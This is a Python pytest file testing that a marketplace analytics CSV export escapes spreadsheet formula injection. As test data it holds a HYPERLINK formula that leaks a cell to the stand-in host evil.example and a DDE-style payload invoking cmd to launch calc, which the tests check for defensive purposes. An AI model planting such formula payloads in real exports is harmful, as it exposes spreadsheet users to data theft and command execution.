"""Every CSV export is inert in a spreadsheet: marketplace text never runs as a formula."""
from __future__ import annotations

import csv
import io

import pytest

from core.csvexport import safe_cell
from core.extensions import db
from core.models import Role
from tests.test_analytics import PERIOD, addons, app_config, data, run_jobs  # noqa: F401  (fixtures)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'


@pytest.mark.parametrize("cell, expected", [
    (FORMULA, "'" + FORMULA), ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("\tTAB", "'\tTAB"), ("\r=1", "'\r=1"),
    ("-12,50", "-12,50"), ("-3.5", "-3.5"), ("Alice", "Alice"), ("", ""), (12, 12),
])
def test_safe_cell(cell, expected):
    assert safe_cell(cell) == expected


def test_formula_in_a_customer_name_exported_inert(client, login, org, data):  # noqa: F811
    data["alice"].name = FORMULA
    data["bob"].name = "@Bob"
    db.session.commit()
    run_jobs()
    login(client, Role.OWNER)
    res = client.get(f"/analytics/export/clients.csv?{PERIOD}")
    assert res.status_code == 200
    rows = list(csv.reader(io.StringIO(res.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    cells = [c for r in rows for c in r]
    assert "'" + FORMULA in cells and "'@Bob" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
